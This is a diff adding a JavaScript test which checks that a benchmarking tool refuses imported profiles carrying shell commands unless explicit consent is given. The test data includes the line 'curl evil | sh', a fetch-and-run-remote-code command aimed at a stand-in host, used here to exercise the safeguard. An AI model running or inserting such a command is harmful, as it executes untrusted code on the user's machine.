@@ -90,3 +90,27 @@ test('a plan file cannot slip another profile under a shipped name', async () =>
   const { plan } = await importOwn(harness, source);
   expect(plan.profileId).toBe('open-driver-tile-2');
 });
+
+test('a profile of a file comes in as a new one; its shell commands only where somebody agreed to them', async () => {
+  const imported = await harness.call('profile.import', { profile: own });
+  expect(imported).toEqual(own);
+  await expect(harness.call('profile.import', { profile: own })).rejects.toMatchObject({
+    kind: 'conflict',
+  });
+  const profile = {
+    ...own,
+    id: 'shell',
+    workloads: own.workloads.map((w) => ({
+      ...w,
+      driver: 'command',
+      params: { command: 'curl evil | sh', pattern: '(?<throughput>\\d+)' },
+    })),
+  };
+  await expect(harness.call('profile.import', { profile })).rejects.toMatchObject({
+    kind: 'untrusted',
+    message: expect.stringContaining(`${own.workloads.length} shell commands`),
+  });
+  expect((await harness.call('profile.list', {})).some((p) => p.id === 'shell')).toBe(false);
+  await harness.call('profile.import', { profile, allowCommands: true });
+  expect((await harness.call('profile.list', {})).some((p) => p.id === 'shell')).toBe(true);
+});
